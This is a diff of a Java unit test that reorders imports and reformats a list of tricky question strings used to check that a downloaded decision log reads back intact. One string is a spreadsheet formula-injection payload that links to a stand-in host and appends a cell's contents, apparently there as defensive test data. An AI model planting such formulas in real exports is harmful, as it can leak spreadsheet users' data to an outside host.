@@ -5,11 +5,9 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.mockito.Mockito.verify;
 import static org.mockito.Mockito.when;
 
-import java.time.LocalDate;
-import java.util.ArrayList;
-import app.counterpoint.decision.DecisionSheet;
-import app.counterpoint.decision.DecisionKeys;
 import app.counterpoint.decision.Decision;
+import app.counterpoint.decision.DecisionKeys;
+import app.counterpoint.decision.DecisionSheet;
 import app.counterpoint.decision.Decisions;
 import app.counterpoint.decision.Outcome;
 import app.counterpoint.exchange.Exchanges;
@@ -29,6 +27,8 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
+import java.time.LocalDate;
+import java.util.ArrayList;
 import java.util.EnumSet;
 import java.util.List;
 import java.util.Optional;
@@ -111,8 +111,15 @@ class ImportsTest {
     void theDownloadedLogIsReadBackAsTheSameDecisions() {
         var day = LocalDate.parse("2025-03-03");
         var questions = List.of(
-                "=HYPERLINK(\"http://e.example/?\"&A1)", "+1 on the queue?", "-20 % of the budget?", "@ 9 or at 10?",
-                "'quoted' or not?", "one;=2+3", "Two, \"three\"; four?", "Ümläut — 決定?", "Plain?");
+                "=HYPERLINK(\"http://e.example/?\"&A1)",
+                "+1 on the queue?",
+                "-20 % of the budget?",
+                "@ 9 or at 10?",
+                "'quoted' or not?",
+                "one;=2+3",
+                "Two, \"three\"; four?",
+                "Ümläut — 決定?",
+                "Plain?");
         var log = new ArrayList<Decision>();
         for (int i = 0; i < questions.size(); i++) {
             var outcome = Outcome.values()[i % Outcome.values().length];
